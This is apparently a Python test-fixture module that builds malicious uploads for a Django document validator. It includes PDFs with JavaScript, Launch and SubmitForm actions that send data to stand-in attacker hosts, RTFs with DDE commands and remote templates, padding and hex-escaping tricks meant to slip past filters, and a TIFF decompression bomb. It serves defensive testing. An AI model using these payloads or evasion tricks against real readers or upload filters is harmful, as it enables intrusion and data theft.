"""Real files, good and bad, built byte by byte for the upload tests (no fixtures on disk).

Each builder returns bytes; `upload(name, content)` wraps them as Django does for a small
upload. The PDFs are correct enough for a reader: objects, a cross-reference table (or a
cross-reference stream for the PDF 1.5 builder) with exact offsets, trailer, startxref, %%EOF.
"""

from __future__ import annotations

import io
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from documents.validation import MAX_UPLOAD_BYTES
from workshop.sample_files import build_pdf, pdf_stream


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- PDF ------------------------------------------------------------------------------------

PAGE_TEXT = b"BT /F1 24 Tf 72 720 Td (Compte rendu de consultation) Tj ET"


def base_objects(catalog_extra: bytes = b"") -> list[bytes]:
    """Catalog (1), page tree (2), page (3), content stream (4), font (5)."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        pdf_stream(PAGE_TEXT),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def simple_pdf(catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), **kwargs) -> bytes:
    """A one-page PDF; extra objects are numbered from 6."""
    return build_pdf(base_objects(catalog_extra) + list(extra_objects), **kwargs)


def pdf_with_object_stream(
    catalog_extra: bytes = b"",
    extra_objects: tuple[bytes, ...] = (),
    *,
    compress: bool = True,
    objstm_extra: bytes = b"",
) -> bytes:
    """A PDF 1.5 as modern writers make it: every dictionary (catalog, pages, page, font and the
    extra objects, numbered from 8) inside a Flate-compressed object stream (6), the content
    stream (4) outside, and a cross-reference stream (7) instead of a table."""
    base = base_objects(catalog_extra)
    in_stream = {1: base[0], 2: base[1], 3: base[2], 5: base[4]}
    for number, body in enumerate(extra_objects, start=8):
        in_stream[number] = body
    header, bodies, offset = [], bytearray(), 0
    for number, body in in_stream.items():
        header.append(b"%d %d" % (number, offset))
        bodies += body + b"\n"
        offset += len(body) + 1
    first = b" ".join(header) + b"\n"
    content = first + bytes(bodies)
    data = zlib.compress(content) if compress else content
    filter_ = b" /Filter /FlateDecode" if compress else b""
    objstm = pdf_stream(
        data, b" /Type /ObjStm /N %d /First %d%s%s" % (len(in_stream), len(first), filter_, objstm_extra)
    )

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    positions = {}
    for number, body in ((4, base[3]), (6, objstm)):
        positions[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    positions[7] = len(out)
    size = max([*in_stream, 7]) + 1
    rows = bytearray()
    for number in range(size):
        if number in positions:
            rows += b"\x01" + positions[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in in_stream:
            rows += b"\x02" + (6).to_bytes(4, "big") + list(in_stream).index(number).to_bytes(2, "big")
        else:
            rows += b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"
    xref = pdf_stream(bytes(rows), b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size)
    out += b"7 0 obj\n%s\nendobj\n" % xref
    out += b"startxref\n%d\n%%%%EOF\n" % positions[7]
    return bytes(out)


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
HEX_ESCAPED_JS_ACTION = b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"
LAUNCH_ACTION = b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"


def pdf_with_javascript() -> bytes:
    return simple_pdf(b" /OpenAction 6 0 R", (JS_ACTION,))


def pdf_with_hex_escaped_javascript() -> bytes:
    return simple_pdf(b" /OpenAction 6 0 R", (HEX_ESCAPED_JS_ACTION,))


def pdf_with_launch() -> bytes:
    return simple_pdf(b" /OpenAction 6 0 R", (LAUNCH_ACTION,))


def pdf_with_embedded_file() -> bytes:
    payload = b"MZ\x90\x00" + bytes(60)
    return simple_pdf(
        b" /Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>",
        (
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
            pdf_stream(payload, b" /Type /EmbeddedFile"),
        ),
    )


# The outbound actions of issue 8 (accepted before it): each as it would sit in an /OpenAction, a
# link annotation's /A or a page's /AA.
URI_JAVASCRIPT_ACTION = b"<< /S /URI /URI (javascript:app.alert\\(document.cookie\\)) >>"
URI_ACTION = b"<< /Type /Action /S /URI /URI (https://traceur.example/ouvert?dossier=123) >>"
SUBMIT_FORM_ACTION = (
    b"<< /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/collecte) >> /Flags 4 >>"
)
IMPORT_DATA_ACTION = b"<< /S /ImportData /F (\\\\\\\\attaquant\\\\partage\\\\donnees.fdf) >>"
GOTOR_REMOTE_ACTION = (
    b"<< /S /GoToR /F << /FS /URL /F (https://attaquant.example/suite.pdf) >> /D [0 /Fit] >>"
)
HEX_ESCAPED_URI_ACTION = b"<< /S /U#52I /U#52#49 (https://traceur.example/p) >>"
HEX_ESCAPED_SUBMIT_ACTION = b"<< /S /Sub#6ditF#6frm /F (https://attaquant.example/c) >>"
OUTBOUND_ACTIONS = {
    "uri-javascript": URI_JAVASCRIPT_ACTION,
    "uri": URI_ACTION,
    "submitform": SUBMIT_FORM_ACTION,
    "importdata-unc": IMPORT_DATA_ACTION,
    "gotor-remote": GOTOR_REMOTE_ACTION,
    "uri-hex-escaped": HEX_ESCAPED_URI_ACTION,
    "submitform-hex-escaped": HEX_ESCAPED_SUBMIT_ACTION,
}


def pdf_with_open_action(action: bytes) -> bytes:
    """The action runs when the document opens (object 6)."""
    return simple_pdf(b" /OpenAction 6 0 R", (action,))


def pdf_with_link(action: bytes) -> bytes:
    """A link annotation on the page; the action runs on a click."""
    objects = base_objects()
    objects[2] = objects[2].replace(b" >> >>", b" >> /Annots [6 0 R] >>")
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A " + action + b" >>"
    return build_pdf([*objects, link])


def pdf_with_page_action(action: bytes) -> bytes:
    """A page "open" additional action (/AA /O)."""
    objects = base_objects()
    objects[2] = objects[2].replace(b" >> >>", b" >> /AA << /O 6 0 R >> >>")
    return build_pdf([*objects, action])


def pdf_hiding_in_untyped_object_stream(action: bytes) -> bytes:
    """The action compressed in an object stream whose dictionary says nothing of /Type /ObjStm
    (only /N and /First): a reader following the cross-reference stream still loads it."""
    return pdf_with_object_stream(b" /OpenAction 8 0 R", (action,)).replace(
        b"/Type /ObjStm", b"             "
    )


def encrypted_pdf() -> bytes:
    return simple_pdf(
        extra_objects=(b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>",),
        trailer_extra=b" /Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
    )


# --- Executables ----------------------------------------------------------------------------


def windows_executable() -> bytes:
    """The start of a PE file: DOS header, stub, PE signature."""
    dos_header = (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + bytes(44)
        + (128).to_bytes(4, "little")
    )
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    return (dos_header + stub).ljust(128, b"\x00") + b"PE\x00\x00\x4c\x01" + bytes(400)


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(300)


# --- RTF ------------------------------------------------------------------------------------


def simple_rtf(body: bytes = b"Compte rendu : patient vu en consultation, examen normal.") -> bytes:
    return (
        b"{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Helvetica;}}\n"
        b"\\pard\\f0\\fs24 " + body + b"\\par\n}"
    )


def rtf_with_embedded_object() -> bytes:
    """An OLE "Package" object, the usual way to smuggle an executable into an RTF."""
    return simple_rtf(
        b"Voir la pi\\'e8ce jointe.\\par "
        b"{\\object\\objemb\\objw1\\objh1{\\*\\objclass Package}{\\*\\objdata "
        b"0105000002000000080000005061636b616765000000000000000000" + b"41" * 64 + b"}}"
    )


def rtf_with_dde_field(obfuscated: bool = False) -> bytes:
    command = b"\\'44DE" if obfuscated else b"DDEAUTO"
    return simple_rtf(
        b"{\\field{\\*\\fldinst "
        + command
        + b' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\\fldrslt }}'
    )


# The bypasses of issue 8: a field command pushed beyond the first kilobyte by padding that every
# reader skips, and a template fetched from the network. Each padding is (before, after) the command.
RTF_PADDINGS = {
    "spaces": (b" " * 4096, b""),
    "line-breaks": (b"\r\n" * 2048, b""),
    "empty-groups": (b"{}" * 2048, b""),
    "nested-groups": (b"{" * 1500, b"}" * 1500),
    "control-words": (
        b"\\rtlch\\fcs1 \\af0 \\hich\\af31506\\dbch\\af31505\\loch\\f31506 \\insrsid1 " * 100,
        b"",
    ),
    "formatting-groups": (b"{\\rtlch\\fcs1 \\af0 \\insrsid2 }" * 300 + b"{\\b ", b"}"),
    "ignored-destinations": (b"{\\*\\bkmkstart x}{\\*\\bkmkend x}" * 200, b""),
    "everything": (b" \r\n{}{\\b {\\i \\insrsid3 \r\n " * 400, b"}}" * 400),
}
# Commands that run a program (DDE), fetch a file or a URL (the others), with their arguments.
RTF_ACTIVE_FIELDS = {
    "DDEAUTO": b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "DDE": b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "INCLUDEPICTURE": b'"http://traceur.example/p.png" \\\\d',
    "INCLUDETEXT": b'"\\\\\\\\serveur\\\\partage\\\\x.doc"',
    "IMPORT": b'"\\\\\\\\attaquant\\\\partage\\\\image.wmf"',
    "LINK": b'Excel.Sheet.12 "\\\\\\\\attaquant\\\\partage\\\\x.xlsx" "Feuil1" \\\\a',
    "DATABASE": b'\\\\d "\\\\\\\\attaquant\\\\base.mdb" \\\\s "SELECT 1"',
    "MACROBUTTON": b"AutoOpen Cliquez ici",
    "HYPERLINK": b'"https://attaquant.example/"',
}


def rtf_field(command: bytes, arguments: bytes = b"", padding: tuple[bytes, bytes] = (b" ", b"")) -> bytes:
    """A field whose instruction is padding, command, arguments; its shown result is "x"."""
    before, after = padding
    instruction = before + command + after + (b" " + arguments if arguments else b"")
    return simple_rtf(b"{\\field{\\*\\fldinst" + instruction + b"}{\\fldrslt x}}")


def rtf_with_template(path: bytes) -> bytes:
    """Word fetches the attached template when the file opens (remote template injection)."""
    return (
        b"{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Helvetica;}}"
        b"{\\*\\template " + path + b"}\n\\pard\\f0 Compte rendu.\\par\n}"
    )


# --- Images ---------------------------------------------------------------------------------


def jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def png(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 200, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def tiff(size: tuple[int, int] = (64, 48), pages: int = 1, compression: str | None = None) -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("L", size, 40 * page % 256) for page in range(pages)]
    options = {"compression": compression} if compression else {}
    frames[0].save(buffer, "TIFF", save_all=pages > 1, append_images=frames[1:], **options)
    return buffer.getvalue()


def fax_tiff(pages: int = 2) -> bytes:
    """A bilevel multi-page TIFF compressed with CCITT Group 4, as fax machines and scanners write."""
    buffer = io.BytesIO()
    frames = [Image.new("1", (200, 100), page % 2) for page in range(pages)]
    frames[0].save(buffer, "TIFF", save_all=True, append_images=frames[1:], compression="group4")
    return buffer.getvalue()


def truncated_jpeg() -> bytes:
    data = jpeg((256, 256))
    return data[: len(data) // 2]


def jpeg_with_declared_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) announces width x height."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def bomb_tiff(width: int, height: int) -> bytes:
    """A real decompression bomb: a bilevel TIFF of width x height white pixels in one
    Deflate strip. A few kilobytes that decode to width * height pixels."""
    row = (width + 7) // 8
    compressor = zlib.compressobj(9)
    block_rows = max(1, (1 << 20) // row)
    strip = bytearray()
    for start in range(0, height, block_rows):
        strip += compressor.compress(bytes(row * min(block_rows, height - start)))
    strip += compressor.flush()
    entries = [
        (256, 4, width),  # ImageWidth
        (257, 4, height),  # ImageLength
        (258, 3, 1),  # BitsPerSample
        (259, 3, 8),  # Compression: Adobe Deflate
        (262, 3, 0),  # PhotometricInterpretation: WhiteIsZero
        (273, 4, 0),  # StripOffsets (filled below)
        (277, 3, 1),  # SamplesPerPixel
        (278, 4, height),  # RowsPerStrip
        (279, 4, len(strip)),  # StripByteCounts
    ]
    data_offset = 8 + 2 + 12 * len(entries) + 4
    ifd = bytearray(len(entries).to_bytes(2, "little"))
    for tag, kind, value in entries:
        if tag == 273:
            value = data_offset
        encoded = value.to_bytes(2, "little") + b"\x00\x00" if kind == 3 else value.to_bytes(4, "little")
        ifd += tag.to_bytes(2, "little") + kind.to_bytes(2, "little") + (1).to_bytes(4, "little") + encoded
    ifd += (0).to_bytes(4, "little")
    return b"II*\x00" + (8).to_bytes(4, "little") + bytes(ifd) + bytes(strip)


# --- Text -----------------------------------------------------------------------------------

FRENCH_TEXT = "Compte rendu : patiente vue le 12/03, fièvre à 38,5 °C, œdème résolu.\r\n"


def text_of_size(size: int) -> bytes:
    line = b"Ligne de compte rendu, texte valide.\n"
    return (line * (size // len(line) + 1))[:size]


def max_size_text() -> bytes:
    return text_of_size(MAX_UPLOAD_BYTES)


def oversized_text() -> bytes:
    return text_of_size(MAX_UPLOAD_BYTES + 1)
